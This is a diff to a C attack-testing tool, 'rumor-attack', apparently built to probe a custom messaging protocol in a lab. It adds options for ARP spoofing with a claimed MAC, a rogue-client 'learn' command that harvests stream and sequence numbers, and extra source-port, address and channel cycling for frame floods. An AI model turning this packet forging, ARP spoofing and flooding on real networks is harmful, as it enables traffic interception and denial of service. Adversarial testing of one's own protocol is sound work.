@@ -15,6 +15,9 @@
  *            of an amplification
  *   capture  the first frame on the bridge that matches, kept to a file
  *   replay   that frame, sent again as it was
+ *   learn    as a rogue client with its own UDP socket: subscribe to a
+ *            channel, and print the stream and sequence of the first
+ *            message delivered (what a NACK needs to be answered in full)
  *   owner    the owner of a channel on the ring of members 1..N, weight 1
  *
  * Every command prints one line of figures ("sent frames=N bytes=B" or
@@ -57,6 +60,8 @@ struct atk_opts {
 	const char *iface;
 	uint8_t src_mac[6];
 	bool have_src_mac;
+	uint8_t claim_mac[6];		/* ARP: the MAC claimed. */
+	bool have_claim_mac;
 	uint8_t dst_mac[6];
 	uint32_t src_ip, dst_ip;	/* Network order. */
 	uint16_t src_port, dst_port;	/* Host order. */
@@ -75,6 +80,8 @@ struct atk_opts {
 	uint64_t count;
 	uint64_t rate;			/* Frames a second; 0: no pacing. */
 	uint32_t vary_port;		/* Source ports cycled through. */
+	uint32_t port_every;		/* Frames from each port in turn. */
+	uint32_t name_every;		/* Frames on each name in turn. */
 	uint32_t vary_ip;		/* Source addresses cycled through. */
 	uint32_t vary_channel;		/* Channel names cycled through. */
 	uint32_t hash_bits;		/* Names whose hashes share these. */
@@ -103,18 +110,25 @@ usage(FILE *f)
 "                            [--nodes K] [--label L (CONTROL)]\n"
 "                            [--count N] [--rate PPS] [--vary-port N]\n"
 "                            [--vary-ip N] [--vary-channel N]\n"
+"                            [--port-every N] [--name-every N]\n"
 "                            [--hash-bits B] [--vary-seq]\n"
 "       rumor-attack arp     --iface IF --dst-mac MAC --src IP (the address\n"
 "                            claimed) --dst IP [--src-mac MAC]\n"
+"                            [--claim-mac MAC (default: the frame's)]\n"
 "                            [--op gratuitous|reply] [--count N] [--rate PPS]\n"
 "       rumor-attack count   --iface IF [--from IP] [--to IP] [--types N,..]\n"
-"                            [--arp] --seconds S\n"
+"                            [--hash H] [--arp] --seconds S\n"
 "       rumor-attack capture --iface IF [--from IP] [--types N,..]\n"
 "                            [--with-origin] --seconds S --file F\n"
 "       rumor-attack replay  --iface IF --file F [--count N] [--rate PPS]\n"
+"       rumor-attack learn   --dst IP:PORT --src IP:PORT --channel NAME\n"
+"                            --seconds S\n"
 "       rumor-attack owner   --members N CHANNEL...\n"
 "Numbers take 0x; --vary-channel N names NAME-0 .. NAME-(N-1); with\n"
-"--hash-bits B their hashes share their low B bits (searched).\n");
+"--hash-bits B their hashes share their low B bits (searched). Frame i\n"
+"is on name (i / name-every) mod N, from port PORT + (i / port-every)\n"
+"mod vary-port, from the address after IP by (i / port-every /\n"
+"vary-port) mod vary-ip.\n");
 }
 
 static int
@@ -341,8 +355,7 @@ build_msg(uint8_t *buf, size_t cap, const struct atk_opts *o, uint64_t i,
 	if (type == RUMOR_T_CONTROL)
 		return forge_control(buf, o, i);
 	if (names != NULL)
-		name = names[(i / (o->vary_port ? o->vary_port : 1)) %
-				o->vary_channel];
+		name = names[(i / o->name_every) % o->vary_channel];
 	chan_msg_init(&m, type, name, strlen(name));
 	if (o->have_hash && names == NULL)
 		m.channel_hash = o->hash;
@@ -428,13 +441,16 @@ cmd_send(const struct atk_opts *o)
 	t0 = now_ns();
 	for (uint64_t i = 0; i < o->count; i++) {
 		size_t n = build_msg(msg, sizeof(msg), o, i, names);
+		uint64_t turn = i / o->port_every;
 		uint16_t sport = (uint16_t)(o->src_port +
-				(o->vary_port ? i % o->vary_port : 0));
+				(o->vary_port ? turn % o->vary_port : 0));
 		uint32_t src = o->src_ip;
 
+		/* Each address in turn once every port has had its turn. */
 		if (o->vary_ip)
-			src = htonl(ntohl(src) + (uint32_t)(i / (o->vary_port ?
-					o->vary_port : 1) % o->vary_ip));
+			src = htonl(ntohl(src) + (uint32_t)(turn /
+					(o->vary_port ? o->vary_port : 1) %
+					o->vary_ip));
 		pace(t0, i, o->rate);
 		if (o->udp) {
 			struct sockaddr_in to = { .sin_family = AF_INET };
@@ -485,7 +501,7 @@ cmd_arp(const struct atk_opts *o)
 	a[4] = 6;
 	a[5] = 4;
 	a[7] = grat ? 1 : 2;	/* Request or reply. */
-	memcpy(a + 8, mac, 6);
+	memcpy(a + 8, o->have_claim_mac ? o->claim_mac : mac, 6);
 	memcpy(a + 14, &o->src_ip, 4);
 	if (grat) {
 		memcpy(a + 24, &o->src_ip, 4);
@@ -521,6 +537,9 @@ matches(const uint8_t *f, size_t len, const struct atk_opts *o)
 		return false;
 	if ((o->f_src_ip && ip->src != o->f_src_ip) ||
 			(o->f_dst_ip && ip->dst != o->f_dst_ip))
+		return false;
+	if (o->have_hash && (len < FRAME_RUMOR_OFF + sizeof(*h) ||
+			be64toh(h->channel_hash) != o->hash))
 		return false;
 	if (o->f_types == 0 && !o->f_origin)
 		return true;
@@ -558,9 +577,10 @@ cmd_count(const struct atk_opts *o, bool capture)
 				(struct sockaddr *)&from, &fl);
 		if (n <= 0 || !matches(f, (size_t)n, o))
 			continue;
-		/* The count is of what the victim receives. */
-		if (!capture && from.sll_pkttype == PACKET_OUTGOING)
-			continue;
+		/*
+		 * Both directions: on a bridge port what goes to the host
+		 * behind it is outgoing; the address filters pick the way.
+		 */
 		frames++;
 		bytes += (uint64_t)n;
 		if (capture) {
@@ -610,6 +630,53 @@ cmd_replay(const struct atk_opts *o)
 }
 
 static int
+cmd_learn(const struct atk_opts *o)
+{
+	struct sockaddr_in me = { .sin_family = AF_INET };
+	struct sockaddr_in to = { .sin_family = AF_INET };
+	uint64_t end = now_ns() + (uint64_t)(o->seconds * 1e9);
+	uint8_t buf[FRAME_MAX];
+	struct chan_msg m;
+	size_t n;
+	int fd = socket(AF_INET, SOCK_DGRAM, 0);
+
+	me.sin_addr.s_addr = o->src_ip;
+	me.sin_port = htons(o->src_port);
+	to.sin_addr.s_addr = o->dst_ip;
+	to.sin_port = htons(o->dst_port);
+	if (fd < 0 || bind(fd, (struct sockaddr *)&me, sizeof(me)) < 0) {
+		perror("rumor-attack: UDP socket");
+		return 1;
+	}
+	chan_msg_init(&m, RUMOR_T_SUBSCRIBE, o->channel, strlen(o->channel));
+	m.seq = 1;
+	m.u.lease.lease_ms = 5000;
+	n = chan_msg_encode(&m, buf, sizeof(buf));
+	sendto(fd, buf, n, 0, (struct sockaddr *)&to, sizeof(to));
+	while (now_ns() < end) {
+		struct pollfd p = { .fd = fd, .events = POLLIN };
+		ssize_t got;
+
+		if (poll(&p, 1, 100) <= 0)
+			continue;
+		got = recv(fd, buf, sizeof(buf), 0);
+		if (got <= 0 || chan_msg_decode(buf, (size_t)got, &m) !=
+				CHAN_WIRE_OK || m.type != RUMOR_T_DELIVER)
+			continue;
+		printf("stream=%" PRIu64 " seq=%" PRIu64 "\n", m.u.ord.stream,
+				m.u.ord.seq);
+		chan_msg_init(&m, RUMOR_T_UNSUBSCRIBE, o->channel,
+				strlen(o->channel));
+		m.seq = 2;
+		n = chan_msg_encode(&m, buf, sizeof(buf));
+		sendto(fd, buf, n, 0, (struct sockaddr *)&to, sizeof(to));
+		return 0;
+	}
+	printf("stream=0 seq=0\n");
+	return 1;
+}
+
+static int
 cmd_owner(const struct atk_opts *o, int argc, char **argv)
 {
 	struct ring_member m[64];
@@ -625,8 +692,9 @@ cmd_owner(const struct atk_opts *o, int argc, char **argv)
 	if (t == NULL || ring_table_build(t, m, n, 1) < 0)
 		return 1;
 	for (int i = 0; i < argc; i++)
-		printf("%s %" PRIu32 "\n", argv[i], ring_owner(t,
-				ring_channel_hash(argv[i], strlen(argv[i]))));
+		printf("%s %" PRIu32 " %#" PRIx64 "\n", argv[i], ring_owner(t,
+				ring_channel_hash(argv[i], strlen(argv[i]))),
+				ring_channel_hash(argv[i], strlen(argv[i])));
 	free(t);
 	return 0;
 }
@@ -673,11 +741,14 @@ main(int argc, char **argv)
 		{ "arp", 0, NULL, 'A' }, { "seconds", 1, NULL, 'w' },
 		{ "file", 1, NULL, 'W' }, { "op", 1, NULL, 'a' },
 		{ "members", 1, NULL, 'E' }, { "help", 0, NULL, '?' },
+		{ "port-every", 1, NULL, 'G' }, { "name-every", 1, NULL, 'J' },
+		{ "claim-mac", 1, NULL, 'K' },
 		{ NULL, 0, NULL, 0 },
 	};
 	struct atk_opts o = { .count = 1, .channel = "x", .label = "lab",
 		.dst_port = RUMOR_DEFAULT_PORT, .src_port = RUMOR_DEFAULT_PORT,
-		.seconds = 1, .nack_count = CHAN_NACK_MAX };
+		.seconds = 1, .nack_count = CHAN_NACK_MAX, .port_every = 1,
+		.name_every = 1 };
 	const char *cmd;
 	int c, bad = 0;
 
@@ -735,15 +806,23 @@ main(int argc, char **argv)
 		case 'W': o.file = optarg; break;
 		case 'a': o.op = optarg; break;
 		case 'E': o.members = (uint32_t)num(optarg); break;
+		case 'G': o.port_every = (uint32_t)num(optarg); break;
+		case 'J': o.name_every = (uint32_t)num(optarg); break;
+		case 'K': bad |= parse_mac(optarg, o.claim_mac);
+			o.have_claim_mac = true; break;
 		default: usage(stderr); return 2;
 		}
 	}
+	if (o.port_every == 0 || o.name_every == 0)
+		bad = 1;
 	if (bad) {
 		fprintf(stderr, "rumor-attack: a bad address, MAC or list\n");
 		return 2;
 	}
 	if (strcmp(cmd, "owner") == 0)
 		return cmd_owner(&o, argc - optind, argv + optind);
+	if (strcmp(cmd, "learn") == 0)
+		return cmd_learn(&o);
 	if (o.iface == NULL && !(strcmp(cmd, "send") == 0 && o.udp)) {
 		fprintf(stderr, "rumor-attack: --iface is required\n");
 		return 2;
